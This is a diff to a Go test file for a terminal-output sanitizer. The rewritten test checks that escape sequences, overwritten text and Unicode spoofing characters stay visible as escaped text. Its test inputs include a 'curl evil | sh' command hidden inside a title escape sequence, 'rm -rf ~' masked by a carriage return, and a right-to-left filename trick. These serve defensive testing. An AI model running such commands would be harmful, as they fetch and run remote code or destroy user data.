@@ -164,39 +164,25 @@ func TestScreen_ErasesRowsThatANarrowerTerminalWrapped(t *testing.T) {
 	}
 }
 
-func TestSafe_RemovesEscapes(t *testing.T) {
+// TestSafeText_ShowsWhatEscapeSequencesEnclose tests that text inside an escape sequence, and text that a program
+// overwrites, stays visible.
+func TestSafeText_ShowsWhatEscapeSequencesEnclose(t *testing.T) {
 	t.Parallel()
 	for in, want := range map[string]string{
-		"plain ü 四\n\ttext":                      "plain ü 四\n\ttext",
-		"\x1b[31mred\x1b[0m":                     "red",
-		"\x1b]0;title\x07after":                  "after",
-		"\x1b]8;;http://x\x1b\\link\x1b]8;;\x07": "link",
-		"\x1b[2J\x1b[Hgone":                      "gone",
-		"bell\x07 nul\x00 del\x7f":               "bell␇ nul␀ del␡",
-		"lone \x1b escape":                       "lone ␛ escape",
-		"c1 \u009b31m":                           "c1 \ufffd31m",
-		"turned \u202egnp.exe":                   "turned \ufffdgnp.exe",
-		"bad \xff utf8":                          "bad \ufffd utf8",
-		"a\r\nb\rc":                              "a\nb␍c",
+		"plain ü 四\n\ttext":                       "plain ü 四\n\ttext",
+		"\x1b[31mred\x1b[0m":                      `\u{1b}[31mred\u{1b}[0m`,
+		"a\x1b]0;b\n+curl evil | sh\n+c\x07after": "a\\u{1b}]0;b\n+curl evil | sh\n+c\\u{7}after",
+		"\x1b]8;;http://x\x1b\\link":              `\u{1b}]8;;http://x\u{1b}\link`,
+		"\x1bPa\nhidden\x1b\\":                    "\\u{1b}Pa\nhidden\\u{1b}\\",
+		"rm -rf ~\rls":                            `rm -rf ~\u{d}ls`,
+		"turned \u202egnp.exe":                    `turned \u{202e}gnp.exe`,
+		"filled \u3164 and \u034f":                `filled \u{3164} and \u{34f}`,
 	} {
 		if got := SafeText(in); got != want {
 			t.Errorf("%q: got %q, want %q", in, got, want)
 		}
 	}
-	if got := applyOverwrites("10%\r50%\r100%\r\ndone"); got != "100%\ndone" {
-		t.Errorf("overwritten: %q", got)
+	if got, want := SafeLine("two  spaces\nline\ttab"), `two  spaces\u{a}line\u{9}tab`; got != want {
+		t.Errorf("got %q, want %q", got, want)
 	}
-}
-
-// TestSafe_ReturnsNoControlCharacters tests that no input makes Safe return a command to the terminal.
-func TestSafe_ReturnsNoControlCharacters(t *testing.T) {
-	t.Parallel()
-	rapid.Check(t, func(t *rapid.T) {
-		in := string(rapid.SliceOf(rapid.Byte()).Draw(t, "bytes"))
-		for _, r := range SafeText(in) {
-			if r != '\n' && r != '\t' && visibleForm(r) != string(r) {
-				t.Fatalf("%q keeps %q", in, r)
-			}
-		}
-	})
 }
